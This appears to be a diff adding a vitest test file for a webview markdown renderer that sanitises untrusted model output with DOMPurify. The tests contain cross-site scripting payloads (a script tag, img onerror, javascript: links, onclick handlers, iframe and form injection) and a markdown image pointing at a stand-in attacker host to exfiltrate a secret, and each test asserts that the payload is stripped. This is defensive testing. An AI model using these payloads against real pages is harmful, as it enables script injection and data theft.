@@ -1,0 +1,39 @@
+// @vitest-environment jsdom
+import DOMPurify from "dompurify";
+import { describe, expect, it } from "vitest";
+import { renderMarkdown } from "../../webview/markdown";
+
+const purify = DOMPurify(window);
+const render = (md: string) => renderMarkdown(md, purify);
+
+describe("renderMarkdown (model output is untrusted)", () => {
+  it("renders ordinary markdown and code blocks", () => {
+    const html = render("# Title\n\nSome **bold** and `code`.\n\n```ts\nconst a = 1 < 2;\n```\n");
+    expect(html).toContain("<h1>Title</h1>");
+    expect(html).toContain("<strong>bold</strong>");
+    expect(html).toMatch(/<pre><code class="language-ts">const a = 1 &lt; 2;\n<\/code><\/pre>/);
+  });
+  it("neutralises <script> and <img onerror>", () => {
+    const html = render('Hi <script>window.pwned = 1</script>\n\n<img src=x onerror="window.pwned = 2">');
+    expect(html).not.toMatch(/<script/i);
+    expect(html).not.toMatch(/onerror/i);
+    expect(html).not.toMatch(/<img/i);
+    // And nothing ran while parsing.
+    expect((window as unknown as { pwned?: number }).pwned).toBeUndefined();
+  });
+  it("drops javascript: links, event handlers, iframes, forms and styles", () => {
+    const html = render(
+      '[click](javascript:alert(1)) <a href="javascript:alert(2)">x</a> <b onclick="x()">b</b>' +
+        '<iframe src="https://e.com"></iframe><form action="https://e.com"><input></form><style>*{}</style>',
+    );
+    expect(html).not.toMatch(/javascript:/i);
+    expect(html).not.toMatch(/onclick|<iframe|<form|<input|<style/i);
+    expect(html).toContain("<b>b</b>");
+  });
+  it("drops markdown images (a remote image URL can exfiltrate data)", () => {
+    expect(render("![x](https://evil.example/?q=secret)")).not.toMatch(/<img|evil\.example/);
+  });
+  it("keeps http(s) links", () => {
+    expect(render("[docs](https://example.com/a)")).toContain('<a href="https://example.com/a">docs</a>');
+  });
+});
